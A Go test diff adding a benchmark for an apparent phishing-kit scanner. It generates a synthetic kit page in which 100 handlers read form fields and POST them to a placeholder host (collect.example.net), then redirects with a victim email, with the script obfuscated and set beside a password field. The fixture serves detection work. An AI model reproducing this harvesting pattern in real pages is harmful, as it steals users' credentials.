@@ -213,3 +213,21 @@ func FuzzUnpackStringArrays(f *testing.F) {
 		}
 	})
 }
+
+// BenchmarkScanObfuscatedPage is a large page of kit script (a hundred
+// handlers, each with its strings and addresses) that javascript-obfuscator
+// rewrote with its high preset (RC4 strings, five wrappers, flattening,
+// dead code, self-defending): what reading through the obfuscator costs.
+// Compare with BenchmarkScanRunnerPage.
+func BenchmarkScanObfuscatedPage(b *testing.B) {
+	dir := jsObfuscatorDir(b)
+	var js strings.Builder
+	for i := 0; i < 100; i++ {
+		n := itoa(i)
+		js.WriteString(`document.getElementById("b` + n + `").addEventListener("click", function (ev) { ev.preventDefault(); var v = document.getElementById("f` + n + `").value; ` +
+			`fetch("https://collect.example.net/step` + n + `.php", {method: "POST", body: "field` + n + `=" + encodeURIComponent(v) + "&stage=` + n + `"}); });` + "\n")
+	}
+	js.WriteString(`setTimeout(function () { window.location.replace("https://landing.example.net/review/#" + "kenji@corp.example.jp"); }, 300);` + "\n")
+	obf := obfuscate(b, dir, js.String(), []map[string]any{{"optionsPreset": "high-obfuscation", "seed": 1, "target": "browser"}})[0]
+	benchPage(b, `<input type="password" id="pr"><script>`+obf+`</script>`)
+}
